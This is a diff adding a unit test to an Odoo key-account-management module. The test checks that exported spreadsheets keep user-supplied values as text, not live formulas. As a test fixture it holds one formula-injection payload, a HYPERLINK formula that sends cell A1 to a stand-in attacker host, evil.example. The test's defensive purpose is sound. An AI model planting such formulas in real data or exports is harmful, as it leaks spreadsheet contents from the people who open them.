@@ -6,6 +6,7 @@ from freezegun import freeze_time
 
 from odoo.exceptions import UserError, ValidationError
 from odoo.tests import tagged
+from odoo.tools import file_path
 
 from .common_retention import KamRetentionCommon
 
@@ -69,6 +70,23 @@ class TestManagementWorkbook(KamRetentionCommon):
         self.assertEqual(len(kpis._charts), 1)
         groups = book["Groups"]
         self.assertIn(self.group_a.name, self._column(groups))
+
+    def test_text_stays_text(self):
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+        self.group_b.write({'name': formula, 'city': "+1-2"})
+        book = self._workbook(self.user_kam_manager)
+        row = next(r for r in book["Accounts"].iter_rows(min_row=2) if r[0].value == formula)
+        self.assertEqual((row[0].data_type, row[12].data_type, row[12].value), ('s', 's', "+1-2"))
+        cells = [r[2] for r in book["Contracts"].iter_rows(min_row=2) if r[2].value == formula]
+        self.assertEqual([cell.data_type for cell in cells], ['s'])
+        formulas = [cell.coordinate for sheet in book for r in sheet.iter_rows() for cell in r
+                    if cell.data_type == 'f']
+        self.assertFalse(formulas)
+        # the member import template the product ships holds text and dates only
+        template = openpyxl.load_workbook(file_path(
+            'key_account_management/static/xls/kam_member_import_template.xlsx'))
+        self.assertEqual({cell.data_type for r in template.active.iter_rows() for cell in r
+                          if cell.value is not None}, {'s', 'd'})
 
     def test_users_workbook_holds_his_accounts_only(self):
         book = self._workbook(self.user_kam)
